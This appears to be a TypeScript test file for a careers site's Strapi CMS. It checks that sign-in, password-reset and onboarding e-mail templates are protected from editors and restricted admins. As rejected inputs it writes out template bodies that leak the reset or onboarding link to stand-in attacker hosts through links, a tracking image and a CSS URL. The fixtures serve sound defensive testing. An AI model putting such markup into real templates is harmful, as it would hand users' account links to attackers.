// The sign-in-code and password-reset e-mails are not content. /cms editors can't see or
// change them, and no writer at all can deactivate them, delete them or take out their code or link.
import { messages, SECURITY_EMAIL_TEMPLATES } from '@careers/shared';
import { describe, expect, it } from 'vitest';
import { createAdmin, postJson, signIn } from '../support/admin-session';
import { adminWithFlags } from '../support/custom-role';
import { signInAsEditor } from '../support/panel-editor';
import { testServer } from '../support/test-server';

const EMAIL_TEMPLATE = 'api::email-template.email-template';
const PANEL = `/content-manager/collection-types/${EMAIL_TEMPLATE}`;
const SECURITY_KEYS = Object.keys(SECURITY_EMAIL_TEMPLATES) as (keyof typeof SECURITY_EMAIL_TEMPLATES)[];

interface Template {
  id: number;
  documentId: string;
  template_key: string;
  subject: string;
  body: string;
  is_active: boolean;
}

function template(key: string): Promise<Template> {
  return server.strapi.db.query(EMAIL_TEMPLATE).findOne({ where: { template_key: key } }) as Promise<Template>;
}

const server = await testServer();
const editor = await signInAsEditor(server);

describe('in /cms, the content editor', () => {
  it('does not see the security e-mails among the templates', async () => {
    const { status, body } = await editor.request('GET', `${PANEL}?pageSize=100`);
    expect(status).toBe(200);
    const keys = (body as { results: { template_key: string }[] }).results.map((row) => row.template_key);
    expect(keys).toContain('application_received');
    for (const key of SECURITY_KEYS) expect(keys).not.toContain(key);
  });

  it.each(SECURITY_KEYS)('can neither open, change nor delete %s', async (key) => {
    const before = await template(key);
    const opened = await editor.request('GET', `${PANEL}/${before.documentId}`);
    expect(opened.status).toBe(403);
    const changed = await editor.request('PUT', `${PANEL}/${before.documentId}`, {
      body: '<p><a href="https://attacker.example/?l={{reset_link}}">Reset</a> {{code}}</p>',
    });
    expect(changed.status).toBe(403);
    expect((await editor.request('DELETE', `${PANEL}/${before.documentId}`)).status).toBe(403);
    expect(await template(key)).toEqual(before);
  });

  it('still edits the candidate e-mails', async () => {
    const before = await template('application_received');
    const subject = `${before.subject} (updated)`;
    const saved = await editor.request('PUT', `${PANEL}/${before.documentId}`, { subject });
    expect(saved.status).toBe(200);
    expect((await template('application_received')).subject).toBe(subject);
    await server.strapi.db
      .query(EMAIL_TEMPLATE)
      .update({ where: { id: before.id }, data: { subject: before.subject } });
  });
});

describe.each(SECURITY_KEYS)('no writer can break %s', (key) => {
  const { name, variable, secret } = SECURITY_EMAIL_TEMPLATES[key];
  const documents = () => server.strapi.documents(EMAIL_TEMPLATE);

  it('through the document service: deactivating, removing its variable, renaming or deleting', async () => {
    const before = await template(key);
    const attempts: [() => Promise<unknown>, string][] = [
      [
        () => documents().update({ documentId: before.documentId, data: { is_active: false } }),
        messages.emailTemplates.securityTemplateActive(name),
      ],
      [
        () => documents().update({ documentId: before.documentId, data: { body: '<p>Nothing to see here.</p>' } }),
        messages.emailTemplates.securityTemplateVariable(name, variable),
      ],
      [
        () => documents().update({ documentId: before.documentId, data: { template_key: `${key}_old` } }),
        messages.emailTemplates.securityTemplateKept(name),
      ],
      [() => documents().delete({ documentId: before.documentId }), messages.emailTemplates.securityTemplateKept(name)],
    ];
    for (const [attempt, message] of attempts) await expect(attempt()).rejects.toThrow(message);
    expect(await template(key)).toEqual(before);
  });

  it('through plain database queries, one row or many', async () => {
    const before = await template(key);
    const rows = server.strapi.db.query(EMAIL_TEMPLATE);
    await expect(rows.update({ where: { id: before.id }, data: { is_active: false } })).rejects.toThrow(
      messages.emailTemplates.securityTemplateActive(name),
    );
    await expect(
      rows.updateMany({ where: { template_key: key }, data: { body: 'All e-mails are paused.' } }),
    ).rejects.toThrow(messages.emailTemplates.securityTemplateVariable(name, variable));
    await expect(rows.deleteMany({ where: { template_key: key } })).rejects.toThrow(
      messages.emailTemplates.securityTemplateKept(name),
    );
    expect(await template(key)).toEqual(before);
  });

  it('while a change that keeps it working is saved', async () => {
    const before = await template(key);
    const shown = secret === 'link' ? `<a href="{{ ${variable} }}">Open</a>` : `{{ ${variable} }}`;
    const body = `<p>Hello.</p><p>${shown}</p>`;
    await server.strapi.documents(EMAIL_TEMPLATE).update({ documentId: before.documentId, data: { body } });
    expect((await template(key)).body).toBe(body);
    await server.strapi.db.query(EMAIL_TEMPLATE).update({ where: { id: before.id }, data: { body: before.body } });
  });
});

it('keeps back-office sign-in working when someone tries to switch its e-mail off', async () => {
  const signInCode = await template('sign_in_code');
  await expect(
    server.strapi.documents(EMAIL_TEMPLATE).update({
      documentId: signInCode.documentId,
      data: { is_active: false, body: '<p>Sign-in is paused.</p>' },
    }),
  ).rejects.toThrow();
  const admin = await createAdmin(server, 'recruiter');
  const cookie = await signIn(server, admin);
  expect(cookie).toMatch(/^careers_admin_session=/);
  expect((await template('sign_in_code')).is_active).toBe(true);
});

describe("the hiring congratulations e-mail, which carries the new hire's onboarding link", () => {
  const KEY = 'hiring_congratulations';
  const NAME = 'Hiring congratulations';
  const save = (documentId: string, body: unknown, cookie: string) =>
    postJson(server, `/api/backoffice/email-templates/${documentId}`, body, cookie, 'PUT') as Promise<{
      status: number;
      body: { error?: { message: string } };
    }>;
  const withBeacon = (body: string) => `${body}<img src="https://evil.example/p?{{onboarding_link}}">`;

  it('is a security e-mail: /cms editors and settings-only admins cannot change it', async () => {
    const before = await template(KEY);
    const opened = await editor.request('GET', `${PANEL}/${before.documentId}`);
    expect(opened.status).toBe(403);
    const changed = await editor.request('PUT', `${PANEL}/${before.documentId}`, { body: withBeacon(before.body) });
    expect(changed.status).toBe(403);

    const settingsOnly = await signIn(server, await adminWithFlags(server, ['manage_settings']));
    const attack = await save(
      before.documentId,
      { subject: before.subject, body: withBeacon(before.body), is_active: true },
      settingsOnly,
    );
    expect(attack.status).toBe(403);
    expect(attack.body.error?.message).toBe(messages.emailTemplates.securityTemplateFullAccessOnly(NAME));
    const off = await save(
      before.documentId,
      { subject: before.subject, body: before.body, is_active: false },
      settingsOnly,
    );
    expect(off.status).toBe(403);
    expect(await template(KEY)).toEqual(before);
  });

  it('lets the admin with every permission change it, but never send the link or load anything elsewhere', async () => {
    const before = await template(KEY);
    const full = await signIn(server, await createAdmin(server, 'super_admin'));
    const attempts: [string, boolean, string][] = [
      [before.body, false, messages.emailTemplates.securityTemplateActive(NAME)],
      [withBeacon(before.body), true, messages.emailTemplates.securityTemplateOutsideContent(NAME)],
      [
        `${before.body}<p style="background:url(https://evil.example/p)">x</p>`,
        true,
        messages.emailTemplates.securityTemplateOutsideContent(NAME),
      ],
      [
        '<p><a href="https://evil.example/?l={{onboarding_link}}">Complete my onboarding</a></p>',
        true,
        messages.emailTemplates.securityTemplateSecretPlacement(NAME, 'onboarding_link', 'link'),
      ],
    ];
    for (const [body, is_active, message] of attempts) {
      const refused = await save(before.documentId, { subject: before.subject, body, is_active }, full);
      expect(refused.status).toBe(400);
      expect(refused.body.error?.message).toBe(message);
    }
    expect(await template(KEY)).toEqual(before);

    const body = `${before.body}<p>See you soon.</p>`;
    expect((await save(before.documentId, { subject: before.subject, body, is_active: true }, full)).status).toBe(200);
    expect((await template(KEY)).body).toBe(body);
    await server.strapi.db.query(EMAIL_TEMPLATE).update({ where: { id: before.id }, data: { body: before.body } });
  });
});
